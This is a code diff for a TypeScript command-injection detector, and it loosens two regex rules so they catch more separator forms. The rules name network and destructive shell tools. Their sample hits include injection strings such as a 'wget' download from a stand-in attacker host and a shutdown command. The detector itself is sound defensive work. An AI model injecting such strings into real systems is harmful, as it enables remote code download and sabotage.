@@ -21,7 +21,7 @@ export const SHELL_RULES: readonly ArgumentRule[] = [
     weight: 6,
     message: 'A value ends and a command of its own begins.',
     pattern: new RegExp(
-      `(?:^\\s{0,8}(?!\\|[^|\\n]{1,80}\\|[^\\n]{0,400}\\|\\s{0,3}(?:\\n|$))|^[^\\s;|&]{0,64}["')}\\d.@]\\s?|^[^\\s;|&]{0,60}\\.\\w{1,8}\\s?)(?:[;|&\\n\\r]\\s{0,4}){1,3}["'(]?(?:/(?:usr/)?s?bin/\\w|${PROGRAM}\\b)|^[^\\s;|&/]{1,64}[;|&]{1,2}/(?:usr/)?s?bin/\\w|^[^\\s;|&\\\\]{0,64}(?:\\\\[rn]){1,3}\\s{0,2}(?:/(?:usr/)?s?bin/\\w{1,20}|${PROGRAM})(?=\\s|\\\\[rn]|$)`,
+      `(?:^\\s{0,8}(?!\\|[^|\\n]{1,80}\\|[^\\n]{0,400}\\|\\s{0,3}(?:\\n|$))|^[^\\s;|&]{0,64}["')}\\d.@]\\s?|^[^\\s;|&]{0,60}\\.\\w{1,8}\\s?)(?:[;|&\\n\\r]\\s{0,4}){1,3}["'(]?(?:/(?:usr/)?s?bin/\\w|${PROGRAM}\\b)|^[^\\s;|&/]{1,64}[;|&]{1,2}/(?:usr/)?s?bin/\\w|^[^\\s;|&\\\\]{0,64}(?:\\\\[rn]){1,3}\\s{0,2}(?:/(?:usr/)?s?bin/\\w{1,20}|${PROGRAM})(?=\\s|\\\\[rn]|[|;&'"#]|$)`,
       'gi',
     ),
     hits: [
@@ -127,7 +127,7 @@ export const SHELL_RULES: readonly ArgumentRule[] = [
     weight: 4,
     message: 'A plain word that no program is called, and then a command to look around or to do harm.',
     pattern: new RegExp(
-      `^(?!(?:${USUAL})\\b)(?!\\.{0,2}/[^\\s;|&]{0,50}(?:bin/|\\.(?:sh|py|js|pl|exe|bat)))[\\w.@/!+%=*-]{1,60}\\s{0,2}(?:;|\\|{1,2}|&{1,2}|\\n)\\s{0,4}(?:ls(?=\\s{0,2}(?:$|[-/;|&#~]))|(?:netstat|ps|pwd|env|printenv|hostname|dir|ver|set|w|sh|bash)(?=\\s{0,2}(?:$|[;|&#'"\\0]|-\\w))|type\\s{1,3}[%a-z]:?[\\w\\\\]|dir\\s{1,3}[a-z]:|timeout\\s\\d|phpinfo\\(|system\\(["']|sleep\\s\\d|shutdown\\b|reboot\\b|wget\\s|curl\\s|nc\\s|ncat\\s|whoami\\b|id\\s{0,2}(?:$|[;|&#])|uname\\b|rm\\s-rf\\s[/~*]|cat\\s/|ping\\s-|nslookup\\s|mkfifo\\s|chmod\\s|powershell\\b|python3?\\s-c|perl\\s-e|(?:ba|z)?sh\\s-c|del\\s[/*]|erase\\s/|tee\\s/|exec\\s/|touch\\s/|ifconfig\\b|ipconfig\\b|net\\suser)`,
+      `^(?!(?:${USUAL})\\b)(?!\\.{0,2}/[^\\s;|&]{0,50}(?:bin/|\\.(?:sh|py|js|pl|exe|bat)))[\\w.@/!+%=*-]{1,60}\\s{0,2}(?:[;|&]{1,3}|\\n)\\s{0,4}(?:ls(?=\\s{0,2}(?:$|[-/;|&#~]))|(?:netstat|ps|pwd|env|printenv|hostname|dir|ver|set|w|sh|bash)(?=\\s{0,2}(?:$|[;|&#'"\\0]|-\\w))|type\\s{1,3}[%a-z]:?[\\w\\\\]|dir\\s{1,3}[a-z]:|timeout\\s\\d|phpinfo\\(|system\\(["']|sleep\\s\\d|shutdown\\b|reboot\\b|wget\\s|curl\\s|nc\\s|ncat\\s|whoami\\b|id\\s{0,2}(?:$|[;|&#])|uname\\b|rm\\s-rf\\s[/~*]|cat\\s/|ping\\s-|nslookup\\s|mkfifo\\s|chmod\\s|powershell\\b|python3?\\s-c|perl\\s-e|(?:ba|z)?sh\\s-c|del\\s[/*]|erase\\s/|tee\\s/|exec\\s/|touch\\s/|ifconfig\\b|ipconfig\\b|net\\suser)`,
       'gi',
     ),
     hits: ['main; sleep 10 #', 'x || wget http://evil.example/m.sh', 'a\nwhoami', 'user; shutdown -h now'],
